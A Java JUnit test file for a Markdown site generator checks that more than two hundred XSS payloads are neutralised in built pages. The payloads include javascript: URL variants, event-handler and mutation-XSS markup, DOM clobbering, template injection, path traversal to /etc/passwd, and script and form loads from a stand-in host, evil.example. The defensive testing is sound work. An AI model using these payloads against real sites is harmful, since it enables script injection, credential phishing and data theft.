package dev.guidepost.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import dev.guidepost.TinySite;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** No text, wherever it stands, brings a page to run, load or pretend anything. */
class XssTest {
  /** Addresses that run or lead elsewhere. */
  private static final List<String> SCHEMES =
      List.of(
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "javascript&colon;alert(1)",
          "javascript&#58;alert(1)",
          "javascript&#x3a;alert(1)",
          "java&Tab;script:alert(1)",
          "java&NewLine;script:alert(1)",
          "java\tscript:alert(1)",
          "&#1;javascript:alert(1)",
          "&#x20;javascript:alert(1)",
          " javascript:alert(1)",
          "javascript\\:alert(1)",
          "javascript://%0aalert(1)",
          "javascript:%61lert(1)",
          "&#106;avascript:alert(1)",
          "&#0000106avascript:alert(1)",
          "jav&#x0A;ascript:alert(1)",
          "vbscript:msgbox(1)",
          "data:text/html,<script>alert(1)</script>",
          "data:text/html;base64,PHNjcmlwdD4=",
          "DATA:image/svg+xml,<svg onload=alert(1)>",
          "blob:https://a.example/1",
          "file:///etc/passwd",
          "view-source:javascript:alert(1)",
          "feed:javascript:alert(1)",
          "jar:javascript:alert(1)!/",
          "mhtml:http://evil.example/",
          "//evil.example/a",
          "/\\evil.example/a",
          "\\\\evil.example\\a",
          "///evil.example",
          "https:evil.example",
          "https:/evil.example",
          "https:\\\\evil.example",
          "https://user@evil.example/",
          "https://a.example\\@evil.example",
          "https://evil.example:443@a.example/",
          "ws://evil.example/",
          "mailto:a@b.example?body=x&attach=/etc/passwd",
          "tel:*#06#",
          "weixin://dl/",
          "intent://scan/#Intent;scheme=x;end",
          "../../../etc/passwd",
          "%6a%61vascript:alert(1)",
          "javascript&#xFF1A;alert(1)",
          "java&#x200b;script:alert(1)");

  /** Attributes that run. */
  private static final List<String> HANDLERS =
      List.of(
          "<img src=x onerror=alert(1)>",
          "<img src=x OnErRoR=alert(1)>",
          "<img src=x onerror&#61;alert(1)>",
          "<img/src=\"x\"/onerror=alert(1)>",
          "<img src=x\tonerror=alert(1)>",
          "<img src=\"x\"onerror=\"alert(1)\">",
          "<img src=`x` onerror=alert(1)>",
          "<b onmouseover=alert(1)>x</b>",
          "<a href=# onclick=\"alert(1)\">x</a>",
          "<details open ontoggle=alert(1)><summary>x</summary></details>",
          "<div onpointerover=\"alert(1)\">x</div>",
          "<p onfocus=alert(1) tabindex=0 autofocus>x</p>",
          "<video src=x onerror=alert(1)></video>",
          "<body onload=alert(1)>",
          "<input type=checkbox onfocus=alert(1) autofocus>",
          "<table onbegin=alert(1)><td>x</table>",
          "<h2 onclick=alert(1)>x</h2>",
          "<span/onclick=alert(1)//>x</span>",
          "<q onanimationstart=alert(1)>x</q>",
          "<code onx=1 on=2 onclick=3>x</code>");

  /** Elements that run, load, ask or hide. */
  private static final List<String> TAGS =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<script\n>alert(1)</script\n>",
          "<script/x>alert(1)</script>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
          "<svg><use href=\"//evil.example/x.svg#a\"/></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
          "<svg><style><img src=x onerror=alert(1)></style></svg>",
          "<math><mi//xlink:href=\"javascript:alert(1)\">x</mi></math>",
          "<math href=\"javascript:alert(1)\">x</math>",
          "<style>*{background:url(//evil.example)}</style>",
          "<style>@import \"//evil.example/x.css\";</style>",
          "<p style=\"background:url(javascript:alert(1))\">x</p>",
          "<p style=\"position:fixed;inset:0\">x</p>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<iframe src=javascript:alert(1)></iframe>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<object data=javascript:alert(1)></object>",
          "<embed src=javascript:alert(1)>",
          "<applet code=x></applet>",
          "<form action=javascript:alert(1)><input type=submit></form>",
          "<form action=//evil.example><input name=phrase><button>Send</button></form>",
          "<button formaction=javascript:alert(1)>x</button>",
          "<input type=image src=x onerror=alert(1)>",
          "<input type=password name=phrase>",
          "<input type=\"checkbox\" type=\"text\">",
          "<textarea autofocus onfocus=alert(1)>",
          "<select onfocus=alert(1)><option>x</select>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
          "<meta http-equiv=\"refresh\" content=\"0;javascript:alert(1)\">",
          "<base href=//evil.example/>",
          "<audio src=x onerror=alert(1)>",
          "<video poster=javascript:alert(1) src=//evil.example/x.mp4></video>",
          "<source srcset=//evil.example/x>",
          "<picture><source srcset=\"//evil.example/x\"><img src=x></picture>",
          "<img srcset=\"//evil.example/x 1x, javascript:alert(1) 2x\" src=x>",
          "<img src=//evil.example/track.gif>",
          "<img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>",
          "<marquee onstart=alert(1)>x</marquee>",
          "<dialog open>x</dialog>",
          "<template><script>alert(1)</script></template>",
          "<slot name=x onslotchange=alert(1)></slot>",
          "<portal src=//evil.example></portal>",
          "<plaintext>",
          "<xmp><img src=x onerror=alert(1)></xmp>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
          "<noembed><img src=x onerror=alert(1)></noembed>",
          "<title><img src=x onerror=alert(1)></title>",
          "<keygen autofocus onfocus=alert(1)>",
          "<isindex action=javascript:alert(1)>",
          "<image src=x onerror=alert(1)>",
          "<x onclick=alert(1)>x</x>",
          "<custom-element is=x>x</custom-element>",
          "<gp-box kind=tabs label=x>x</gp-box>",
          "<GP-CODE info=js><pre><code>x</code></pre></GP-CODE>",
          "</gp-box><gp-stray>x</gp-stray>",
          "<gp-tab label=\"x\" onclick=alert(1)>x</gp-tab>");

  /** Names and classes of the page itself, and marks of ours. */
  private static final List<String> SPOOFING =
      List.of(
          "<a id=location href=x>x</a>",
          "<p id=document>x</p>",
          "<img name=cookie src=x alt=x>",
          "<a id=config><a id=config name=url href=x>",
          "<span id=main>x</span>",
          "<div id=nav>x</div>",
          "<div id=\"__proto__\">x</div>",
          "<form id=forms></form>",
          "<div class=\"callout callout-official alert site-header\">Official</div>",
          "<div class=\"strip urgent-link\">x</div>",
          "<span class=\"skip\">x</span>",
          "<li class=\"steps task official\">x</li>",
          "<div role=alert aria-live=assertive>x</div>",
          "<div data-alert=1 data-from=0>x</div>",
          "<div hidden>x</div>",
          "<div contenteditable>x</div>",
          "<a target=_blank href=https://a.example/>x</a>",
          "<a ping=//evil.example href=#>x</a>",
          "<a download=x.exe href=page.md>x</a>",
          "<p data-at=1 data-ref=0>x</p>",
          "text data-ref=\"&#xFDD0;0&#xFDD1;\" text",
          "<p title=\"data-ref=&quot;&#xFDD0;0&#xFDD1;&quot;\">x</p>",
          "&#xFFFF;<p>x</p>",
          "a &#x202E;gpj.exe");

  /** Markup that one parser reads differently than another. */
  private static final List<String> PARSERS =
      List.of(
          "<frameset onload=alert(1)><frame src=x></frameset>",
          "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
          "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "<svg><p><style><g title=\"</style><img src onerror=alert(1)>\">",
          "<noscript><style></noscript><img src=x onerror=alert(1)>",
          "<select><style></select><img src=x onerror=alert(1)>",
          "<table><caption><svg><title></table><img src=x onerror=alert(1)>",
          "<p><svg><desc><p><img src=x onerror=alert(1)>",
          "<![CDATA[<img src=x onerror=alert(1)>]]>",
          "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
          "<!DOCTYPE html><img src=x onerror=alert(1)>",
          "<!--><img src=x onerror=alert(1)>-->",
          "<!-- --!><img src=x onerror=alert(1)> -->",
          "<!--- x --><img src=x onerror=alert(1)>",
          "<a title=\"--><img src=x onerror=alert(1)>\">",
          "<div title=\"",
          "<div title='x",
          "<a href=\"x",
          "<img src=x alt=\"",
          "<b",
          "</p></div></main></body>",
          "</div></div></article><footer>x</footer>",
          "</script><script>alert(1)</script>",
          "</style><script>alert(1)</script>",
          "</title><script>alert(1)</script>",
          "</textarea><script>alert(1)</script>",
          "\"><script>alert(1)</script>",
          "'><script>alert(1)</script>",
          "\"onmouseover=\"alert(1)",
          "` onmouseover=alert(1) `",
          "<<script>alert(1)//<</script>",
          "<\u00a0script>alert(1)</script>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "<a<b onclick=alert(1)>x",
          "<a href=\"https://a.example/\" \"onclick=alert(1)\">x</a>",
          "<p/onclick=alert(1)/x>y</p>");

  /** The same by way of Markdown. */
  private static final List<String> MARKDOWN =
      List.of(
          "[x](javascript:alert(1))",
          "[x](<javascript:alert(1)>)",
          "[x](javascript:alert(1) \"t\")",
          "![x](javascript:alert(1))",
          "[x]: javascript:alert(1)\n\n[x]",
          "<javascript:alert(1)>",
          "<JAVASCRIPT:alert(1)>",
          "[x](https://a.example/\"onclick=\"alert(1))",
          "[x](# \"a\\\" onclick=\\\"alert(1)\")",
          "![x\" onerror=\"alert(1)](a.svg)",
          "![x](a.svg \"y\\\" onerror=\\\"alert(1)\")",
          "[x](page.md){onclick=alert(1)}",
          "![x](a.svg){onerror=alert(1) style=x}",
          "## x {onclick=alert(1)}",
          "## x {#y onclick=alert(1)}",
          "::: tip <img src=x onerror=alert(1)>\nx\n:::",
          "::: tip {onclick=alert(1) style=x id=main}\nx\n:::",
          "::: <script>\nx\n:::",
          "::: details \"><script>alert(1)</script> {open onclick=x}\nx\n:::",
          "```\"><script>alert(1)</script>\nx\n```",
          "```js title=\"<img src=x onerror=alert(1)>\"\nx\n```",
          "> [!NOTE] <img src=x onerror=alert(1)>\n> x",
          "[^\"><script>]: x\n\ny[^\"><script>]",
          "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
          "`<script>alert(1)</script>`",
          "[<img src=x onerror=alert(1)>](page.md)",
          "[x](page.md \"<script>alert(1)</script>\")",
          "{{ facts.x }}{% raw %}{{ page.title }}",
          "{{ \"\".getClass() }}",
          "[[toc]]\n\n## <img src=x onerror=alert(1)>",
          "{% include \"../../x\" %}",
          "https://evil.example/\"onmouseover=alert(1)",
          "www.evil.example/<script>",
          "a@evil.example?<script>",
          "\\<script>alert(1)</script>");

  private static final List<String> ALL = all();
  private static final HostileSite SITE = HostileSite.of(ALL);

  private static List<String> all() {
    List<String> all = new ArrayList<>();
    List.of(SCHEMES, HANDLERS, TAGS, SPOOFING, PARSERS, MARKDOWN).forEach(all::addAll);
    return List.copyOf(all);
  }

  static Stream<Arguments> texts() {
    return IntStream.range(0, ALL.size()).mapToObj(i -> Arguments.of(i, ALL.get(i)));
  }

  @ParameterizedTest
  @MethodSource("texts")
  void aHostileTextDoesNothing(int number, String text) {
    assertThat(SITE.violations(number)).as(text).isEmpty();
  }

  @Test
  void fewHostileTextsAreRefusedBeforeTheyAreLookedAt() {
    assertThat(ALL).hasSizeGreaterThan(200);
    assertThat(SITE.built()).isGreaterThan(ALL.size() * 2);
  }

  @Test
  void noElementKeepsAnAttributeThatRuns() {
    List<String> texts =
        Stream.of(
                ("a abbr b blockquote br caption cite code col colgroup dd del details dfn div dl dt em"
                        + " figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q"
                        + " s samp section small span strong sub summary sup table tbody td tfoot th thead"
                        + " time tr u ul var video wbr")
                    .split(" "))
            .map(tag ->
                "<"
                    + tag
                    + " onclick=alert(1) onfocus=alert(1) style=x srcdoc=x formaction=x action=x name=x"
                    + " data=x background=x xlink:href=x is=x slot=x autofocus contenteditable>x</"
                    + tag
                    + ">")
            .toList();
    HostileSite site = HostileSite.of(texts);

    for (int i = 0; i < texts.size(); i++) {
      assertThat(site.violations(i)).as(texts.get(i)).isEmpty();
    }
  }

  @Test
  void theOracleSeesWhatIsPutIntoAPageAsItIs() {
    String page = TinySite.page("Page\n").build().file("en/page/index.html");
    List<String> unseen = new ArrayList<>();
    for (List<String> texts : List.of(HANDLERS, TAGS)) {
      for (String text : texts) {
        if (PageOracle.violations(page.replace("<p>Page</p>", text)).isEmpty()) {
          unseen.add(text);
        }
      }
    }

    assertThat(PageOracle.violations(page)).isEmpty();
    assertThat(unseen).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<img src=x onerror=alert(1)>",
        "\"><script>alert(1)<!--",
        "' onmouseover='alert(1)",
        "javascript:alert(1)",
        "&lt;script&gt;",
        "{{ page.title }}",
        "{% raw %}",
        "..%2f..%2f",
        "`id`",
        "a\\b"
      })
  void aHostileFileNameDoesNothing(String name) {
    var built =
        TinySite.page("[x](<" + name + ".md>) ![y](<" + name + ".svg>)\n")
            .with("content/en/" + name + ".md", "text\n")
            .with("content/en/" + name + "/index.md", "text\n")
            .with("content/en/" + name + ".svg", "<svg width='1' height='1'/>")
            .build();

    built
        .files()
        .forEach((path, html) -> {
          assertThat(path).matches("[\\w./-]+");
          if (path.endsWith(".html") && html.contains("class=\"content\"")) {
            assertThat(PageOracle.violations(html)).as(path).isEmpty();
          }
        });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "javascript:alert(1)",
        "//evil.example/",
        "https://evil.example/",
        "/\\evil.example/",
        "data:text/html,x",
        "\"><script>alert(1)</script>"
      })
  void aRedirectInFrontMatterDoesNotLeaveTheSite(String to) {
    var built =
        TinySite.page("text\n")
            .with("content/en/old.md", "---\nredirect_to: '" + to.replace("'", "''") + "'\n---\n")
            .with(
                "content/en/older.md",
                "---\naliases: ['" + to.replace("'", "''") + "']\n---\ntext\n")
            .build();

    if (built.result().files().isPresent()) {
      built
          .files()
          .values()
          .forEach(file -> assertThat(file).doesNotContain("evil.example", "alert(1)"));
    } else {
      assertThat(built.findings()).anyMatch(f -> f.startsWith("content/en/old"));
    }
  }
}
